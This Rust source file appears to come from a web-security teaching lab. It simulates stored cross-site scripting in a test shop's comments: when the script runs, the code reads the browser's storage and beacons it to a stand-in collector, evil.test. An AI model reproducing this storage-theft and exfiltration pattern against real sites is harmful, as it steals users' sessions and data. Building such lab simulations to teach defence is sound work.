//! `script`: a browser loads the shop's comments into its page, and a script in one of them runs there if nothing stops it. What
//! it reads and sends is modelled; the requests are real.

use std::collections::BTreeMap;

use serde_json::json;

use super::refresh_retry::send_request;
use crate::lab::browser::injection::judge_page;
use crate::lab::client::Clients;
use crate::lab::error::LabError;
use crate::model::act::{PageScript, RequestTrigger, StoragePlace};
use crate::model::header_values::HeaderValues;
use crate::model::{Act, Exchange, Request, ScriptResult, ScriptVerdict};

/// The page of the shop in which everything happens.
const PAGE: &str = "https://shop.test/";
/// Where the script sends what it found, unless the lesson says otherwise.
const COLLECTOR: &str = "https://evil.test/collect";

/// Lets the client that the act names load the page, and the script run in it.
///
/// # Errors
/// When nobody loads it, when a request can't be sent as it is written, or when a connection breaks.
pub(super) async fn perform(clients: &mut Clients, act: &Act, script: &PageScript) -> Result<Vec<Exchange>, LabError> {
    let client = act.by.as_deref().ok_or(LabError::NoClient)?;
    let load = from_page("GET /comments".to_owned(), RequestTrigger::Fetch);
    let loaded = send_request(clients, client, &load).await?;
    let verdict = judge_page(&loaded.exchange.response);
    let mut exchanges: Vec<Exchange> = loaded.into_exchanges().collect();
    let mut found = BTreeMap::new();
    if verdict == ScriptVerdict::Ran {
        if let Some(request) = &script.request {
            let request = in_page(request);
            exchanges.extend(send_request(clients, client, &request).await?.into_exchanges());
        }
        let places = if script.reads.is_empty() { &StoragePlace::ALL[..] } else { &script.reads };
        found = clients.read_storage(client, places).await;
        if !found.is_empty() {
            let line = format!("POST {}", script.to.as_deref().unwrap_or(COLLECTOR));
            let body = Some(json!(found).to_string());
            let report = Request { body, headers: text_plain(), ..from_page(line, RequestTrigger::Beacon) };
            exchanges.extend(send_request(clients, client, &report).await?.into_exchanges());
        }
    }
    clients.lane().state().await.script_result = Some(ScriptResult { verdict, found });
    Ok(exchanges)
}

fn from_page(line: String, start: RequestTrigger) -> Request {
    Request { line, page: Some(PAGE.to_owned()), start: Some(start), ..Request::default() }
}

/// A request that the lesson lets the script send: from its page, as a fetch unless the lesson says otherwise.
fn in_page(request: &Request) -> Request {
    let start = request.start.or(Some(RequestTrigger::Fetch));
    Request { page: Some(PAGE.to_owned()), start, ..request.clone() }
}

fn text_plain() -> BTreeMap<String, HeaderValues> {
    BTreeMap::from([("Content-Type".to_owned(), "text/plain".into())])
}
